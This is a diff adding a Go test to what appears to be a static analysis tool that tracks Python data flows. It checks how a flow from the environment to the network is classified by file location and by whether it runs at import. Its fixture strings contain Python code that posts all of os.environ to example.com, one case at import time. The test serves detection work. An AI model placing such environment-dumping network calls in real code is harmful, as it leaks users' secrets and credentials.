@@ -46,6 +46,32 @@ func TestFlows(t *testing.T) {
 	}
 }
 
+// TestFlowsOfTests: what a test gives to a function of the package is a flow of
+// the test, wherever it ends; what runs by itself keeps its context.
+func TestFlowsOfTests(t *testing.T) {
+	const opener = "import urllib.request\ndef fetch(address, data):\n    urllib.request.urlopen(address, data)\n"
+	const caller = "import os\nfrom acme.net import fetch\ndef test():\n    fetch('https://example.com', str(dict(os.environ)).encode())\n"
+	for _, c := range []struct {
+		caller string
+		end    string
+		want   fact.Context
+	}{
+		{"acme/tests/test_net.py", opener, fact.Test},
+		{"acme/examples/net.py", opener, fact.Docs},
+		{"acme/user.py", opener, fact.InCall},
+		{"acme/tests/test_net.py", opener + "fetch('https://example.com', b'')\n", fact.AtImport},
+	} {
+		p, _ := flowPackage(t, []byte("-- acme/__init__.py --\n-- acme/net.py --\n"+c.end+"-- "+c.caller+" --\n"+caller))
+		var got []fact.Context
+		for i := range p.Facts {
+			if f := &p.Facts[i]; f.Kind == fact.Flow && f.Name == "environment.all>network" {
+				got = append(got, f.Context)
+			}
+		}
+		require.Equal(t, []fact.Context{c.want}, got, c.caller)
+	}
+}
+
 const flowLabel = "# flow: "
 
 // flowPackage reads the files of a text archive, through the encoding of
